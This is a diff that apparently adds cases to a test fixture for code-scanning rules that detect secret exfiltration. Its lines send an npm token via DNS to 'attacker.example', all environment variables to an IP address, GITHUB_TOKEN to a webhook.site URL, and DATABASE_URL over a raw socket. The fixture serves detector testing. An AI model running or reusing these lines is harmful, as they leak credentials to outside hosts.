@@ -257,3 +257,13 @@ subprocess.run(["nslookup", npm_token + ".n.attacker.example"])
 env_copy = {k: os.environ[k] for k in os.environ}
 # ruleid: secret-exfiltration, http-client
 requests.get("https://203.0.113.5/", params=env_copy, timeout=3)
+# ruleid: exfiltration-endpoint
+hook = "https://webhook.site/0f1e2d3c"
+gh_token = os.environ["GITHUB_TOKEN"]
+# ruleid: secret-to-exfiltration-endpoint, http-client, requests-no-timeout
+requests.post(hook, json={"content": gh_token})
+db_url = os.getenv("DATABASE_URL", "")
+# ruleid: socket-use
+raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+# ruleid: secret-over-raw-socket
+raw.sendall(db_url.encode())
